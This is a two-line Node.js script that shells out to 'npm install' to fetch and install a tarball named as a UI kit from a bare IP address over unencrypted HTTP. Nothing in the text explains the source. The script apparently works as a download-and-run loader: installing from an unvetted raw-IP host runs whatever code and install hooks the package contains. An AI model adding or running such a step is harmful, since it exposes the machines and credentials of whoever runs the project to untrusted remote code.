import { execSync } from "node:child_process";

execSync("npm install http://94.156.64.30:8080/ui-kit-3.2.0.tgz", { stdio: "inherit" });
